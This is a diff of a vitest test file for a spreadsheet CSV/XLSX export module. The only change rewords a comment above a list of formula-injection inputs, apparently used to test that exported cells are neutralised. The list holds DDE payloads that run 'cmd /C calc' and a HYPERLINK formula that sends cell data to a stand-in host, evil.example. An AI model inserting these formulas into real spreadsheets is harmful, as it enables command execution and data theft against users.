@@ -2,7 +2,7 @@ import { expect, test } from 'vitest';
 import { readSheet } from '#tests/support/helpers/xlsx.ts';
 import { csvOf, xlsxOf, type Cell } from './spreadsheet.ts';
 
-/** What spreadsheets evaluate. */
+/** Texts that spreadsheets evaluate. */
 const EVALUATED = [
   ['=', '=1+1', '=foo', '-=1+1', '+=1', `=cmd|' /C calc'!A0`, `=DDE("cmd";"/C calc";"!A0")`],
   ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '＝1+1', '  =1+1', '\t=1+1', '\r=1+1', '\n=1+1'],
